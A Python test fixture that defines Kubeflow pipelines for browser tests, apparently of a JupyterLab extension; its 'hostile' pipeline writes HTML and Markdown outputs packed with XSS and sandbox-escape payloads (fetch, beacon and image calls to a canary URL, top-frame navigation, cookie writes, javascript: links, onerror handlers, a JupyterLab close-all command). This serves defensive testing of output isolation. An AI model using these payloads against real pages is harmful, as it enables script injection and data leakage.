"""The pipelines that the browser tests run; `python pipelines.py FOLDER` compiles them there.

Annotations are evaluated here, as the SDK reads them: no `from __future__ import annotations`.
"""
# ruff: noqa: PTH123, T201

import sys
from pathlib import Path

from kfp import compiler, dsl

IMAGE = "python:3.12"


@dsl.component(base_image=IMAGE)
def tick(name: str, ticks: int, ledger: str) -> str:
    """Notes in the ledger that it was started, then prints ten lines a second."""
    import time

    if ledger:
        with open(ledger, "a") as file:
            file.write(f"{name}\n")
    for number in range(ticks):
        print(f"{name} tick {number:04d}", flush=True)
        time.sleep(0.1)
    return name


@dsl.pipeline(name="ticking", description="Two steps side by side, and one after both.")
def ticking(ticks: int = 20, ledger: str = "") -> None:
    """left and right → last."""
    left = tick(name="left", ticks=ticks, ledger=ledger).set_display_name("left")
    right = tick(name="right", ticks=ticks, ledger=ledger).set_display_name("right")
    last = tick(name="last", ticks=1, ledger=ledger).set_display_name("last")
    last.after(left, right)


@dsl.component(base_image=IMAGE)
def report(text: str, metrics: dsl.Output[dsl.Metrics], page: dsl.Output[dsl.Markdown]):
    """Puts out a metric and a page, and prints."""
    metrics.log_metric("accuracy", 0.875)
    with open(page.path, "w") as file:
        file.write(f"# A small report\n\nIt says **{text}**.\n")
    print(f"Written: {text}")


@dsl.pipeline(name="reporting", description="One step with something to show.")
def reporting(text: str = "hello") -> None:
    """A metric, a page and a line in the log."""
    report(text=text)


@dsl.component(base_image=IMAGE)
def attack(
    canary: str,
    page: dsl.Output[dsl.HTML],
    leaver: dsl.Output[dsl.HTML],
    text: dsl.Output[dsl.Markdown],
):
    """Puts out documents that try everything to leave their place."""
    attempts = [
        f"fetch('{canary}/fetch')",
        f"new Image().src = '{canary}/image'",
        f"navigator.sendBeacon('{canary}/beacon', 'x')",
        f"new WebSocket('{canary}/socket'.replace('http', 'ws'))",
        f"new EventSource('{canary}/events')",
        f"window.open('{canary}/popup')",
        f"top.location = '{canary}/top'",
        f"parent.location = '{canary}/parent'",
        "top.document.title = 'hacked'",
        "parent.parent.hacked = true",
        "top.jupyterapp.commands.execute('application:close-all')",
        "parent.postMessage({height: 1e9}, '*')",
        "document.cookie = 'hacked=1'",
        "localStorage.setItem('hacked', '1')",
        "document.forms[0].submit()",
        "document.getElementById('blank').click()",
        f"import('{canary}/module.js')",
    ]
    tries = "\n".join(f"try {{ {attempt} }} catch (error) {{}}" for attempt in attempts)
    with open(page.path, "w") as file:
        file.write(
            f'<link rel="stylesheet" href="{canary}/style.css">'
            f'<style>@import "{canary}/import.css"; body {{ background: url({canary}/ground) }}'
            "</style>"
            f'<base href="{canary}/"><img src="{canary}/img"><iframe src="{canary}/frame"></iframe>'
            f'<form action="{canary}/form" method="post"><input name="a"></form>'
            f'<a id="blank" href="{canary}/blank" target="_blank">b</a>'
            f'<a href="{canary}/top-link" target="_top">Press me</a>'
            f"<p id='mark'>not run</p><script>document.getElementById('mark').textContent ="
            f"'The script ran';\n{tries}</script>"
        )
    with open(leaver.path, "w") as file:
        file.write(
            f'<meta http-equiv="refresh" content="0; url={canary}/refresh">'
            f'<a id="away" href="{canary}/link">a</a><script>'
            f"document.getElementById('away').click(); location.href = '{canary}/self'</script>"
        )
    command = 'data-commandlinker-command="pipelines:show-panel" data-commandlinker-args="{}"'
    with open(text.path, "w") as file:
        file.write(
            "# Harmless\n\n"
            f"![image]({canary}/markdown-image)\n\n"
            "[script link](javascript:window.hacked=true)\n\n"
            "[data link](data:text/html,<script>window.hacked=true</script>)\n\n"
            f'<a {command} href="#">command link</a>\n'
            f"<button {command}>command button</button>\n"
            f'<img src="{canary}/tag" onerror="window.hacked=true">\n'
            '<img src="x" onerror="window.hacked=true">\n'
            f'<iframe src="{canary}/markdown-frame"></iframe>\n'
            f'<div style="background: url({canary}/style)" class="jp-Dialog">styled</div>\n'
            f"<style>body {{ background: url({canary}/body) }}</style>\n"
            "<script>window.hacked = true</script>\n"
            "<svg onload='window.hacked=true'><a href='javascript:window.hacked=true'>"
            "<text>svg link</text></a></svg>\n"
            f'<form action="{canary}/markdown-form"><button>send</button></form>\n'
        )
    print("\x1b[31mred\x1b[0m <img src=x onerror=window.hacked=true>")


@dsl.pipeline(name="hostile", description="Its outputs attack the page that shows them.")
def hostile(canary: str) -> None:
    """One step, two documents."""
    attack(canary=canary)


if __name__ == "__main__":
    for pipeline in (ticking, reporting, hostile):
        compiler.Compiler().compile(pipeline, str(Path(sys.argv[1], f"{pipeline.name}.yaml")))
